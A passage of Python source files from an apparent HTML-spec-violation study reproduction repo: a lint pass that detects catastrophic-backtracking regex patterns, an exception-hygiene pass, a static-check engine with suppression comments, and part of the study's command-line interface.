            if _is_unbounded(arg[1]):
                return _first_chars(arg[2])
            if arg[0] == 0:
                continue  # optional bounded repeat: look further back
            return None
        if name == "SUBPATTERN":
            inner = _tail_repeat_chars(arg[3])
            if inner:
                return inner
            if _nullable(arg[3]):
                continue
            return None
        if name == "BRANCH":
            union: set[int] = set()
            for branch in arg[1]:
                inner = _tail_repeat_chars(branch)
                if inner:
                    union |= inner
            if union:
                return union
            return None
        return None
    return None


def _overlaps(left: set[int] | None, right: set[int] | None) -> bool:
    if not left or not right:
        return False
    if _UNIVERSAL in left or _UNIVERSAL in right:
        return True
    return bool(left & right)


def _branches_in(subpattern):
    """Every BRANCH alternative-list nested anywhere in the subpattern."""
    for item in subpattern:
        op, arg = item
        if str(op) == "BRANCH":
            yield arg[1]
        for child in _iter_subpatterns(item):
            yield from _branches_in(child)


def _risky_branch(branches) -> bool:
    if any(len(branch) == 0 for branch in branches):
        return True  # empty alternative: epsilon-ambiguous under a repeat
    first_sets = [_first_chars(branch) for branch in branches]
    known = [chars for chars in first_sets if chars]
    for index, chars in enumerate(known):
        for other in known[index + 1:]:
            if _overlaps(chars, other):
                return True
    return False


def analyze_pattern(pattern: str) -> str | None:
    """Return a problem description for ``pattern``, or None if it looks safe."""
    try:
        parsed = sre_parse.parse(pattern)
    except _re.error as exc:
        return f"invalid regular expression: {exc}"
    return _analyze_subpattern(parsed)


def _analyze_subpattern(subpattern) -> str | None:
    for item in subpattern:
        op, arg = item
        name = str(op)
        if name in ("MAX_REPEAT", "MIN_REPEAT") and _is_unbounded(arg[1]):
            body = arg[2]
            if _overlaps(_tail_repeat_chars(body), _first_chars(body)):
                return (
                    "nested unbounded quantifier (catastrophic "
                    "backtracking risk)"
                )
            for branches in _branches_in(body):
                if _risky_branch(branches):
                    return (
                        "unbounded repeat over overlapping alternation "
                        "(catastrophic backtracking risk)"
                    )
        for child in _iter_subpatterns(item):
            problem = _analyze_subpattern(child)
            if problem is not None:
                return problem
    return None


class RegexSafetyPass(LintPass):
    id = PASS_ID
    name = "Regex backtracking safety"
    description = (
        "no catastrophic-backtracking-prone literal patterns in core/ "
        "(ambiguous nested quantifiers, overlapping alternation)"
    )

    def select(self, file: SourceFile) -> bool:
        return "core" in file.parts[:-1]

    def visit_Call(self, file: SourceFile, node: ast.Call) -> None:
        func = node.func
        if not (
            isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Name)
            and func.value.id == "re"
            and func.attr in _PATTERN_FUNCS
        ):
            return
        if not node.args:
            return
        pattern = literal_str(node.args[0])
        if pattern is None:
            if not isinstance(node.args[0], ast.JoinedStr):
                return
            self.report(
                file, node.args[0],
                "dynamically built regex pattern cannot be safety-checked",
                fix_hint="prefer literal patterns in core/",
            )
            return
        problem = analyze_pattern(pattern)
        if problem is not None:
            self.report(
                file, node.args[0],
                f"pattern {pattern!r}: {problem}",
                fix_hint="rewrite so quantified groups cannot re-match the "
                "same text (unroll, atomic-group, or bound the repeat)",
            )
