"""Exception-hygiene pass: the pipeline and service must not swallow errors.

The Figure 6 pipeline is the part of the system that touches the outside
world (WARC archives, storage, process pools).  A handler that catches
everything and silently continues turns an I/O or data-format bug into a
*smaller measured corpus* — the study would report fewer violations, not
an error, which is the worst possible failure mode for a measurement.
Web Execution Bundles make the same argument for crawl tooling:
reproducible measurement requires failures to be recorded, not absorbed.

``service/`` is held to the same bar for the same reason from the other
direction: a request handler that absorbs an error silently turns a
checker bug into a wrong-but-200 response.  The service's one sanctioned
catch-all (the 500 mapping at the top of ``ServiceApp.handle``) passes
because it logs with ``logger.exception`` and counts the failure.

Flagged in ``pipeline/`` and ``service/``:

* **bare ``except:``** — always an error; it also catches
  ``KeyboardInterrupt``/``SystemExit`` and can make workers unkillable;
* **blanket ``except Exception``/``BaseException``** (alone or in a
  tuple) whose handler neither re-raises nor visibly records the error
  (no ``raise``, no logging/warnings call, no print) — a warning: catch
  the specific exceptions the stage can actually handle, as
  ``crawler.py`` does with ``(OSError, WARCFormatError)``.
"""
from __future__ import annotations

import ast

from ..engine import LintPass, SourceFile
from ..findings import Severity

PASS_ID = "exception-hygiene"

_BLANKET_NAMES = frozenset({"Exception", "BaseException"})
_LOGGING_ATTRS = frozenset(
    {"debug", "info", "warning", "warn", "error", "exception", "critical", "log"}
)


def _caught_names(node: ast.ExceptHandler) -> list[str]:
    if node.type is None:
        return []
    types = node.type.elts if isinstance(node.type, ast.Tuple) else [node.type]
    names = []
    for type_node in types:
        if isinstance(type_node, ast.Name):
            names.append(type_node.id)
        elif isinstance(type_node, ast.Attribute):
            names.append(type_node.attr)
    return names


def _records_error(node: ast.ExceptHandler) -> bool:
    """True when the handler re-raises or visibly records the exception."""
    for sub in ast.walk(node):
        if isinstance(sub, ast.Raise):
            return True
        if isinstance(sub, ast.Call):
            func = sub.func
            if isinstance(func, ast.Attribute) and func.attr in _LOGGING_ATTRS:
                return True
            if isinstance(func, ast.Name) and func.id in ("print", "warn"):
                return True
    return False


class ExceptionHygienePass(LintPass):
    id = PASS_ID
    name = "Pipeline/service exception hygiene"
    description = (
        "no bare excepts and no blanket Exception handlers that swallow "
        "errors in pipeline/ or service/"
    )

    def select(self, file: SourceFile) -> bool:
        parents = file.parts[:-1]
        return "pipeline" in parents or "service" in parents

    def visit_ExceptHandler(self, file: SourceFile, node: ast.ExceptHandler) -> None:
        if node.type is None:
            self.report(
                file, node,
                "bare `except:` catches everything, including "
                "KeyboardInterrupt",
                fix_hint="catch the specific exceptions this stage can "
                "handle",
            )
            return
        blanket = [name for name in _caught_names(node) if name in _BLANKET_NAMES]
        if blanket and not _records_error(node):
            self.report(
                file, node,
                f"blanket `except {blanket[0]}` swallows errors silently",
                severity=Severity.WARNING,
                fix_hint="narrow the exception types, or re-raise/log so "
                "failures shrink nothing silently",
            )
