"""The staticcheck engine: a visitor-based lint-pass runner over Python ASTs.

Design (mirrors flake8/pylint's checker architecture, sized for this repo):

* every ``*.py`` file under the lint root is parsed **once** into a
  :class:`SourceFile` (source text, AST, suppression comments);
* each :class:`LintPass` declares interest in files via :meth:`select` and
  in node types by defining ``visit_<NodeType>`` methods.  The engine walks
  each AST a single time and dispatches every node to every interested
  pass — N passes cost one traversal, not N;
* passes may keep state across files and emit whole-tree findings from
  :meth:`LintPass.finish` (used by cross-file invariants such as
  "every REGISTRY entry has exactly one implementing rule");
* findings are filtered through suppression comments and returned sorted,
  so output is deterministic for a given tree — the same property the
  study demands of its own pipeline.

Suppression syntax (documented in README.md):

* trailing comment — ``x = random.random()  # staticcheck: ignore[determinism]``
  silences findings of the listed passes **on that line only**;
* standalone comment line — ``# staticcheck: ignore[regex-safety]``
  anywhere on a line of its own silences the listed passes for the
  **whole file**;
* ``ignore[*]`` matches every pass; multiple ids may be comma-separated.
"""
from __future__ import annotations

import ast
import io
import re
import tokenize
from abc import ABC
from dataclasses import dataclass, field
from pathlib import Path
from time import perf_counter
from typing import Callable, Iterator, Sequence

from .findings import LintFinding, Location, Severity

#: pseudo pass id for engine-level problems (unreadable/unparsable files)
ENGINE_PASS_ID = "staticcheck"

_SUPPRESS_RE = re.compile(r"#\s*staticcheck:\s*ignore\[([^\]]+)\]")


@dataclass(slots=True)
class Suppressions:
    """Parsed ``# staticcheck: ignore[...]`` comments for one file."""

    file_level: frozenset[str] = frozenset()
    by_line: dict[int, frozenset[str]] = field(default_factory=dict)

    def allows(self, pass_id: str, line: int) -> bool:
        """True when a finding from ``pass_id`` at ``line`` is suppressed."""
        for ids in (self.file_level, self.by_line.get(line, frozenset())):
            if "*" in ids or pass_id in ids:
                return True
        return False


def _parse_suppressions(text: str) -> Suppressions:
    file_level: set[str] = set()
    by_line: dict[int, frozenset[str]] = {}
    try:
        tokens = list(tokenize.generate_tokens(io.StringIO(text).readline))
    except (tokenize.TokenError, SyntaxError, IndentationError):
        return Suppressions()
    code_lines = {
        line
        for token in tokens
        if token.type not in (
            tokenize.COMMENT, tokenize.NL, tokenize.NEWLINE,
            tokenize.INDENT, tokenize.DEDENT, tokenize.ENDMARKER,
        )
        for line in range(token.start[0], token.end[0] + 1)
    }
    for token in tokens:
        if token.type != tokenize.COMMENT:
            continue
        match = _SUPPRESS_RE.search(token.string)
        if match is None:
            continue
        ids = frozenset(
            part.strip() for part in match.group(1).split(",") if part.strip()
        )
        if not ids:
            continue
        line = token.start[0]
        if line in code_lines:  # trailing comment: line-scoped
            by_line[line] = by_line.get(line, frozenset()) | ids
        else:                   # standalone comment line: file-scoped
            file_level |= ids
    return Suppressions(file_level=frozenset(file_level), by_line=by_line)


@dataclass(slots=True)
class SourceFile:
    """One parsed module under the lint root."""

    path: Path
    rel: str                  # posix path relative to the lint root
    text: str
    tree: ast.Module
    suppressions: Suppressions

    @property
    def parts(self) -> tuple[str, ...]:
        return tuple(self.rel.split("/"))

    @property
    def module_name(self) -> str:
        return Path(self.rel).stem


class LintPass(ABC):
    """One invariant checked over the tree.

    Subclasses set :attr:`id`/:attr:`name`/:attr:`description`, narrow
    :meth:`select`, and define ``visit_<NodeType>(self, file, node)``
    methods; the engine discovers those by name.  ``begin_file`` /
    ``end_file`` bracket each selected file and :meth:`finish` runs once
    after the walk — the place for cross-file verdicts.
    """

    id: str = ""
    name: str = ""
    description: str = ""

    def __init__(self) -> None:
        self._findings: list[LintFinding] = []
        #: free-form counters a pass may publish (surfaced by ``lint
        #: --stats`` and asserted by CI, e.g. footprint's rules_analyzed)
        self.metrics: dict[str, int] = {}
        self._visitors: dict[str, Callable] = {
            attr[len("visit_"):]: getattr(self, attr)
            for attr in dir(type(self))
            if attr.startswith("visit_") and callable(getattr(self, attr))
        }

    # ------------------------------------------------------------- hooks

    def select(self, file: SourceFile) -> bool:
        """Whether this pass wants ``file`` visited (default: every file)."""
        return True

    def begin_file(self, file: SourceFile) -> None:
        """Called before ``file``'s AST is walked."""

    def end_file(self, file: SourceFile) -> None:
        """Called after ``file``'s AST is walked."""

    def finish(self) -> None:
        """Called once after every file; emit cross-file findings here."""

    # ---------------------------------------------------------- reporting

    def report(
        self,
        file: SourceFile | None,
        node: ast.AST | None,
        message: str,
        *,
        severity: Severity = Severity.ERROR,
        fix_hint: str = "",
        line: int | None = None,
    ) -> None:
        location = Location(
            path=file.rel if file is not None else ".",
            line=line if line is not None else getattr(node, "lineno", 0),
            column=getattr(node, "col_offset", 0),
        )
        self._findings.append(
            LintFinding(
                pass_id=self.id, severity=severity, location=location,
                message=message, fix_hint=fix_hint,
            )
        )

    # ----------------------------------------------------------- engine API

    def _dispatch(self, file: SourceFile, node: ast.AST) -> None:
        visitor = self._visitors.get(type(node).__name__)
        if visitor is not None:
            visitor(file, node)

    def _take_findings(self) -> list[LintFinding]:
        findings, self._findings = self._findings, []
        return findings


@dataclass(frozen=True, slots=True)
class PassStat:
    """Per-pass accounting for one engine run (``lint --stats``)."""

    pass_id: str
    seconds: float                  # begin/visit/end/finish wall time
    findings: int                   # emitted findings surviving suppression
    metrics: dict[str, int] = field(default_factory=dict)


@dataclass(slots=True)
class LintResult:
    """Outcome of one engine run."""

    root: str                       # display label for the lint root
    pass_ids: tuple[str, ...]
    files: tuple[str, ...]          # root-relative paths scanned
    findings: tuple[LintFinding, ...]
    suppressed: int                 # findings silenced by ignore comments
    stats: tuple[PassStat, ...] = ()

    def count(self, severity: Severity) -> int:
        return sum(1 for finding in self.findings if finding.severity is severity)

    @property
    def max_severity(self) -> Severity | None:
        return max((f.severity for f in self.findings), default=None)

    def exit_code(self, fail_on: Severity = Severity.ERROR) -> int:
        return 1 if any(f.severity >= fail_on for f in self.findings) else 0


def iter_python_files(root: Path) -> Iterator[Path]:
    """All ``*.py`` files under ``root``, in sorted (deterministic) order."""
    yield from sorted(
        path for path in root.rglob("*.py")
        if "__pycache__" not in path.parts
    )


def load_source_file(path: Path, root: Path) -> tuple[SourceFile | None, LintFinding | None]:
    """Parse one file; on failure return an engine-level ERROR finding."""
    rel = path.relative_to(root).as_posix()
    try:
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text, filename=str(path))
    except (OSError, SyntaxError, ValueError) as exc:
        finding = LintFinding(
            pass_id=ENGINE_PASS_ID,
            severity=Severity.ERROR,
            location=Location(path=rel, line=getattr(exc, "lineno", 0) or 0),
            message=f"cannot parse file: {exc}",
        )
        return None, finding
    return SourceFile(
        path=path, rel=rel, text=text, tree=tree,
        suppressions=_parse_suppressions(text),
    ), None


def run_lint(
    root: Path,
    passes: Sequence[LintPass] | None = None,
    *,
    root_label: str | None = None,
) -> LintResult:
    """Run ``passes`` (default: the full suite) over every module under ``root``."""
    if passes is None:
        from .passes import default_passes

        passes = default_passes()
    root = root.resolve()
    findings: list[LintFinding] = []
    suppressed = 0
    files: list[SourceFile] = []
    scanned: list[str] = []

    for path in iter_python_files(root):
        file, parse_finding = load_source_file(path, root)
        if parse_finding is not None:
            findings.append(parse_finding)
            continue
        assert file is not None
        files.append(file)
        scanned.append(file.rel)

    timings = {lint_pass.id: 0.0 for lint_pass in passes}
    for file in files:
        interested = [p for p in passes if p.select(file)]
        if not interested:
            continue
        for lint_pass in interested:
            started = perf_counter()
            lint_pass.begin_file(file)
            timings[lint_pass.id] += perf_counter() - started
        for node in ast.walk(file.tree):
            for lint_pass in interested:
                started = perf_counter()
                lint_pass._dispatch(file, node)
                timings[lint_pass.id] += perf_counter() - started
        for lint_pass in interested:
            started = perf_counter()
            lint_pass.end_file(file)
            timings[lint_pass.id] += perf_counter() - started
            for finding in lint_pass._take_findings():
                if file.suppressions.allows(finding.pass_id, finding.location.line):
                    suppressed += 1
                else:
                    findings.append(finding)

    suppressions_by_rel = {file.rel: file.suppressions for file in files}
    for lint_pass in passes:
        started = perf_counter()
        lint_pass.finish()
        timings[lint_pass.id] += perf_counter() - started
        for finding in lint_pass._take_findings():
            suppression = suppressions_by_rel.get(finding.location.path)
            if suppression is not None and suppression.allows(
                finding.pass_id, finding.location.line
            ):
                suppressed += 1
            else:
                findings.append(finding)

    kept = tuple(sorted(findings, key=lambda f: f.sort_key))
    counts_by_pass: dict[str, int] = {}
    for finding in kept:
        counts_by_pass[finding.pass_id] = counts_by_pass.get(finding.pass_id, 0) + 1
    stats = tuple(
        PassStat(
            pass_id=lint_pass.id,
            seconds=timings[lint_pass.id],
            findings=counts_by_pass.get(lint_pass.id, 0),
            metrics=dict(lint_pass.metrics),
        )
        for lint_pass in passes
    )
    return LintResult(
        root=root_label if root_label is not None else str(root),
        pass_ids=tuple(p.id for p in passes),
        files=tuple(scanned),
        findings=kept,
        suppressed=suppressed,
        stats=stats,
    )


# --------------------------------------------------------------- AST helpers
# Shared by several passes; kept here so passes stay single-purpose.

def attribute_chain(node: ast.AST) -> tuple[str, ...]:
    """``ast.Attribute``/``ast.Name`` chain as names, e.g. ``np.random.rand``
    -> ``("np", "random", "rand")``; empty tuple when the chain involves
    calls or subscripts."""
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return tuple(reversed(parts))
    return ()


def literal_str(node: ast.AST | None) -> str | None:
    """The value of a string-literal expression node, else None."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    return None
