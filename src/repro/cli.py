"""Command-line interface: run the study and print every table/figure.

Usage::

    repro-study run [--domains N] [--pages N] [--seed N] [--force]
                    [--incremental] [--near-hamming N] [--years Y,Y,...]
                    [--overlap F]
    repro-study check FILE.html
    repro-study fix FILE.html
    repro-study report [--domains N] ...
    repro-study replay MANIFEST.json [--workers N] [--workdir DIR]
    repro-study lint [PATH] [--format text|json] [--fail-on warning|error]
    repro-study fuzz [--seed N] [--iterations N] [--oracle NAME ...]
                     [--no-minimize] [--save DIR] [--replay DIR]
    repro-study serve [--host H] [--port N] [--workers N] [--cache-size N]
                      [--queue-limit N] [--deadline SECONDS] [--procs N]
                      [--shared-cache] [--batch-window N]
    repro-study loadgen [--steps R,R,...] [--duration S] [--connections N]
                        [--no-keepalive] [--procs N] [--shared-cache]
                        [--output FILE] [--quick]
"""
from __future__ import annotations

import argparse
import sys
from pathlib import Path

from .analysis import (
    render_autofix,
    render_dynamic,
    render_element_usage,
    render_figure8,
    render_generalization,
    render_group_trends,
    render_mitigations,
    render_table2,
    render_trend,
    run_dynamic_prestudy,
    run_generalization_study,
)
from .analysis.longitudinal import APPENDIX_FIGURES
from .core import Checker, DecodeFailure, autofix
from .staticcheck import Severity, render_json, render_text, run_lint, write_baseline
from .study import StudyConfig, run_study


def _add_scale_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--domains", type=int, default=None,
                        help="number of study domains (default: 150*REPRO_SCALE)")
    parser.add_argument("--pages", type=int, default=6,
                        help="max pages per domain (paper: 100)")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--force", action="store_true",
                        help="re-run even if cached results exist")
    parser.add_argument("--workers", type=int, default=1,
                        help="process-pool size for the pipeline run")
    parser.add_argument(
        "--incremental", action="store_true",
        help="route the run through the cross-snapshot dedup ingest "
        "(repro.incremental): unchanged bodies carry findings forward",
    )
    parser.add_argument(
        "--near-hamming", type=int, default=None, metavar="N",
        help="also carry near-duplicate bodies within N simhash bits "
        "(implies --incremental; trades bit-exactness for more skips)",
    )
    parser.add_argument(
        "--years", default=None, metavar="Y,Y,...",
        help="restrict the study to these calendar years "
        "(default: all paper years 2015-2022)",
    )
    parser.add_argument(
        "--overlap", type=float, default=0.0, metavar="F",
        help="fraction of pages per domain that stay byte-identical "
        "across snapshots (synthetic-corpus knob, default 0.0)",
    )


def _config(args: argparse.Namespace) -> StudyConfig:
    years = None
    if args.years:
        years = tuple(int(part) for part in args.years.split(","))
    if args.domains is None:
        base = StudyConfig.scaled()
        return StudyConfig(
            num_domains=base.num_domains, max_pages=args.pages,
            seed=args.seed, years=years, overlap_fraction=args.overlap,
        )
    return StudyConfig(
        num_domains=args.domains, max_pages=args.pages, seed=args.seed,
        years=years, overlap_fraction=args.overlap,
    )


def _run_from_args(args: argparse.Namespace):
    return run_study(
        _config(args),
        force=args.force,
        workers=args.workers,
        incremental=args.incremental or args.near_hamming is not None,
        near_hamming=args.near_hamming,
    )


def cmd_run(args: argparse.Namespace) -> int:
    study = _run_from_args(args)
    print(f"study complete: archive={study.archive_dir} db={study.db_path}")
    if study.manifest_path is not None and study.manifest_path.exists():
        print(f"run manifest: {study.manifest_path}")
    print(render_table2(study.table2()))
    return 0


def cmd_report(args: argparse.Namespace) -> int:
    study = _run_from_args(args)
    print(render_table2(study.table2()))
    print(render_figure8(study.figure8()))
    print(render_trend(study.figure9(), "Figure 9: Domains with >=1 violation"))
    print(render_group_trends(study.figure10()))
    trends = study.violation_trends()
    for figure, ids in APPENDIX_FIGURES.items():
        for violation_id in ids:
            print(render_trend(trends[violation_id], figure))
    print(render_autofix(study.autofix_estimate()))
    print(render_mitigations(study.mitigations()))
    print(render_element_usage(study.element_usage()))
    return 0


def cmd_replay(args: argparse.Namespace) -> int:
    """Re-execute a recorded run manifest and verify result digests.

    Exit status: 0 when every compared digest matches, 1 on mismatch,
    2 when the manifest itself is unreadable or malformed.
    """
    from .incremental import ManifestFormatError, replay_manifest

    try:
        report = replay_manifest(
            args.manifest, workdir=args.workdir, workers=args.workers
        )
    except ManifestFormatError as exc:
        print(f"replay: {exc}", file=sys.stderr)
        return 2
    for key in sorted(report.replayed):
        print(f"replayed {key}: {report.replayed[key]}")
    if report.ok:
        compared = ", ".join(report.compared)
        print(f"replay OK: {compared} digest(s) bit-identical to the manifest")
        return 0
    for mismatch in report.mismatches:
        print(f"MISMATCH: {mismatch}", file=sys.stderr)
    return 1


def cmd_dynamic(args: argparse.Namespace) -> int:
    """Section 5.1 pre-study over synthesized dynamic fragments."""
    prestudy = run_dynamic_prestudy(
        num_domains=args.domains or 120, fragments_per_domain=args.fragments
    )
    print(render_dynamic(prestudy))
    print(render_generalization(run_generalization_study(
        num_domains=(args.domains or 120) // 2
    )))
    return 0


def cmd_check(args: argparse.Namespace) -> int:
    data = Path(args.file).read_bytes()
    report = Checker().check_bytes(data, url=args.file)
    if isinstance(report, DecodeFailure):
        declared = report.declared_encoding or "none"
        print(
            f"not UTF-8-decodable (declared encoding: {declared}) — "
            "the paper's framework filters such documents out",
            file=sys.stderr,
        )
        return 2
    if not report.findings:
        print("no violations found")
        return 0
    for finding in report.findings:
        location = f"@{finding.offset}" if finding.offset >= 0 else ""
        print(f"{finding.violation}{location}: {finding.message}")
        if finding.evidence:
            print(f"    {finding.evidence}")
    print(f"{len(report.findings)} finding(s), "
          f"{len(report.violated)} violation type(s)")
    return 1


def cmd_fix(args: argparse.Namespace) -> int:
    text = Path(args.file).read_text(encoding="utf-8")
    result = autofix(text)
    sys.stdout.write(result.fixed)
    print(
        f"\n--- repaired {len(result.repaired)} finding(s); "
        f"{len(result.remaining)} need manual work", file=sys.stderr,
    )
    return 0


def cmd_lint(args: argparse.Namespace) -> int:
    """Run the staticcheck pass suite over the repo's own source.

    With no PATH, lints the installed ``repro`` package — the repo
    machine-checks itself (tier-1 via tests/staticcheck/test_self_lint.py).
    """
    from dataclasses import replace

    from .staticcheck.reporter import render_stats, stale_baseline_findings

    if args.path is not None:
        root = Path(args.path)
        if not root.is_dir():
            print(f"lint: {args.path} is not a directory", file=sys.stderr)
            return 2
        label = args.path
    else:
        root = Path(__file__).resolve().parent
        label = "src/repro"
    result = run_lint(root, root_label=label)
    if args.check_baseline:
        baseline_path = Path(args.check_baseline)
        if not baseline_path.is_file():
            print(
                f"lint: baseline file {args.check_baseline} not found",
                file=sys.stderr,
            )
            return 2
        stale = stale_baseline_findings(
            result,
            baseline_path.read_text(encoding="utf-8"),
            args.check_baseline,
        )
        if stale:
            result = replace(
                result,
                findings=tuple(
                    sorted(
                        result.findings + tuple(stale),
                        key=lambda finding: finding.sort_key,
                    )
                ),
            )
    if args.format == "json":
        print(render_json(result))
    else:
        print(render_text(result))
        if args.stats:
            print(render_stats(result))
    if args.baseline:
        write_baseline(result, Path(args.baseline), root_label=label)
        print(f"baseline written to {args.baseline}", file=sys.stderr)
    return result.exit_code(Severity.parse(args.fail_on))


def cmd_fuzz(args: argparse.Namespace) -> int:
    """Run the deterministic differential-fuzzing harness.

    Exit status 1 when any finding bucket is non-empty (so CI can gate on
    a clean smoke run), 0 otherwise.  ``--replay`` instead re-runs a
    saved corpus directory through the current oracles.
    """
    from .fuzz import (
        CorpusEntry,
        CorpusFormatError,
        FuzzConfig,
        load_corpus,
        render_report,
        replay_entry,
        run_fuzz,
        save_entry,
    )
    from .fuzz.harness import DEFAULT_ORACLES

    if args.replay is not None:
        try:
            entries = load_corpus(args.replay)
        except CorpusFormatError as exc:
            print(f"fuzz: {exc}", file=sys.stderr)
            return 2
        if not entries:
            print(f"fuzz: no corpus entries under {args.replay}", file=sys.stderr)
            return 2
        failures = 0
        for entry in entries:
            try:
                replay_entry(entry)
            except Exception as exc:  # noqa: BLE001 - report, don't crash
                failures += 1
                print(f"REGRESSION {entry.source}: {exc}")
            else:
                print(f"ok {entry.source}")
        print(f"{len(entries)} corpus entries, {failures} regression(s)")
        return 1 if failures else 0

    config = FuzzConfig(
        seed=args.seed,
        iterations=args.iterations,
        oracles=tuple(args.oracle) if args.oracle else DEFAULT_ORACLES,
        minimize=not args.no_minimize,
    )
    try:
        report = run_fuzz(config)
    except ValueError as exc:
        print(f"fuzz: {exc}", file=sys.stderr)
        return 2
    print(render_report(report))
    if args.save and report.findings:
        for finding in report.findings:
            entry = CorpusEntry(
                oracle=finding.bucket.oracle,
                data=finding.minimized,
                bucket=(
                    finding.bucket.oracle,
                    finding.bucket.kind,
                    finding.bucket.frame,
                ),
                note=finding.message,
                origin=f"fuzz seed={config.seed} iteration={finding.iteration}",
            )
            path = save_entry(args.save, entry)
            print(f"saved {path}", file=sys.stderr)
    return 1 if report.findings else 0


def cmd_serve(args: argparse.Namespace) -> int:
    """Run the checker-as-a-service HTTP front end (repro.service).

    Binds, prints one ``repro.service listening on HOST:PORT`` line on
    stdout (port 0 selects an ephemeral port — scripted callers parse
    that line), then serves until SIGINT/SIGTERM, draining in-flight
    requests before exiting 0.
    """
    from .service import ServiceConfig, run_service

    config = ServiceConfig(
        workers=args.workers,
        cache_size=args.cache_size,
        max_body=args.max_body,
        queue_limit=args.queue_limit,
        deadline=args.deadline,
        batch_window=args.batch_window,
        cache_backend="shared" if args.shared_cache else "local",
    )
    return run_service(
        config, host=args.host, port=args.port,
        access_log=not args.no_access_log, procs=args.procs,
    )


def cmd_loadgen(args: argparse.Namespace) -> int:
    """Open-loop load sweep against a freshly spawned service.

    Writes a ``repro-bench/1`` snapshot containing the saturation curve
    (offered vs. achieved RPS, p50/p90/p99 per step) — the before/after
    artifact for service perf work (EXPERIMENTS.md).
    """
    from .service.loadgen import (
        DEFAULT_STEPS,
        LoadgenConfig,
        render_loadgen,
        run_loadgen,
    )

    if args.steps:
        try:
            steps = tuple(int(part) for part in args.steps.split(","))
        except ValueError:
            print(f"loadgen: bad --steps {args.steps!r}", file=sys.stderr)
            return 2
    else:
        steps = DEFAULT_STEPS
    config = LoadgenConfig(
        steps=steps,
        duration=args.duration,
        seed=args.seed,
        distinct=args.distinct,
        connections=args.connections,
        keepalive=not args.no_keepalive,
        warmup=not args.no_warmup,
        label=args.label,
        server_workers=args.workers,
        procs=args.procs,
        shared_cache=args.shared_cache,
        cache_size=args.cache_size,
    )
    if args.quick:
        config.steps = (40, 80)
        config.duration = 0.5
        config.distinct = 4
        config.connections = 2
    snapshot = run_loadgen(config)
    print(render_loadgen(snapshot))
    if args.output:
        from .bench import write_snapshot

        write_snapshot(snapshot, Path(args.output))
        print(f"snapshot written to {args.output}", file=sys.stderr)
    return 0


def cmd_bench(args: argparse.Namespace) -> int:
    """Run the parser-substrate benchmarks, optionally writing a snapshot."""
    from .bench import BenchConfig, render_snapshot, run_benchmarks, write_snapshot

    config = BenchConfig(
        repeat=1 if args.quick else args.repeat,
        number=1 if args.quick else args.number,
        rules=not args.no_rules,
        pipeline=not args.no_pipeline,
        label=args.label,
        quick=args.quick,
    )
    snapshot = run_benchmarks(config)
    print(render_snapshot(snapshot))
    if args.output:
        write_snapshot(snapshot, Path(args.output))
        print(f"snapshot written to {args.output}", file=sys.stderr)
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-study",
        description="HTML specification violation study (IMC 2022 reproduction)",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    run_parser = sub.add_parser("run", help="run the full pipeline")
    _add_scale_args(run_parser)
    run_parser.set_defaults(func=cmd_run)

    report_parser = sub.add_parser("report", help="print every table/figure")
    _add_scale_args(report_parser)
    report_parser.set_defaults(func=cmd_report)

    replay_parser = sub.add_parser(
        "replay",
        help="re-execute a repro-manifest/1 run and verify result digests",
    )
    replay_parser.add_argument("manifest", help="path to the manifest JSON")
    replay_parser.add_argument(
        "--workers", type=int, default=None,
        help="override the recorded worker count (bit-identity across "
        "worker counts is part of what replay proves)",
    )
    replay_parser.add_argument(
        "--workdir", default=None,
        help="scratch directory for the replay DB (default: a tempdir)",
    )
    replay_parser.set_defaults(func=cmd_replay)

    dynamic_parser = sub.add_parser(
        "dynamic", help="run the section 5.1/5.2 side studies"
    )
    dynamic_parser.add_argument("--domains", type=int, default=None)
    dynamic_parser.add_argument("--fragments", type=int, default=15)
    dynamic_parser.set_defaults(func=cmd_dynamic)

    check_parser = sub.add_parser("check", help="check one HTML file")
    check_parser.add_argument("file")
    check_parser.set_defaults(func=cmd_check)

    fix_parser = sub.add_parser("fix", help="auto-repair one HTML file")
    fix_parser.add_argument("file")
    fix_parser.set_defaults(func=cmd_fix)

    lint_parser = sub.add_parser(
        "lint", help="static-analyse the repo's own source (staticcheck)"
    )
    lint_parser.add_argument(
        "path", nargs="?", default=None,
        help="tree to lint (default: the installed repro package)",
    )
    lint_parser.add_argument(
        "--format", choices=("text", "json"), default="text"
    )
    lint_parser.add_argument(
        "--fail-on", choices=("warning", "error"), default="error",
        help="minimum severity that makes the exit status non-zero",
    )
    lint_parser.add_argument(
        "--baseline", metavar="FILE", default=None,
        help="also write the drift-diffable baseline report to FILE",
    )
    lint_parser.add_argument(
        "--check-baseline", metavar="FILE", default=None,
        help="fail on stale entries in FILE that no longer fire "
        "(the committed baseline can only shrink)",
    )
    lint_parser.add_argument(
        "--stats", action="store_true",
        help="print per-pass runtime, finding counts and pass metrics",
    )
    lint_parser.set_defaults(func=cmd_lint)

    fuzz_parser = sub.add_parser(
        "fuzz", help="run the deterministic differential-fuzzing harness"
    )
    fuzz_parser.add_argument("--seed", type=int, default=1)
    fuzz_parser.add_argument("--iterations", type=int, default=1000)
    fuzz_parser.add_argument(
        "--oracle", action="append", metavar="NAME", default=None,
        help="run only this oracle (repeatable; default: all)",
    )
    fuzz_parser.add_argument(
        "--no-minimize", action="store_true",
        help="skip greedy minimization of failing inputs",
    )
    fuzz_parser.add_argument(
        "--save", metavar="DIR", default=None,
        help="write minimized findings as corpus entries under DIR",
    )
    fuzz_parser.add_argument(
        "--replay", metavar="DIR", default=None,
        help="replay a saved corpus directory instead of fuzzing",
    )
    fuzz_parser.set_defaults(func=cmd_fuzz)

    serve_parser = sub.add_parser(
        "serve", help="run the checker as an HTTP service (repro.service)"
    )
    serve_parser.add_argument("--host", default="127.0.0.1")
    serve_parser.add_argument(
        "--port", type=int, default=8645,
        help="listening port; 0 binds an ephemeral port (default 8645)",
    )
    serve_parser.add_argument(
        "--workers", type=int, default=1,
        help="process-pool size for parse/check/fix work (default 1)",
    )
    serve_parser.add_argument(
        "--cache-size", type=int, default=1024,
        help="content-hash LRU entries; 0 disables caching (default 1024)",
    )
    serve_parser.add_argument(
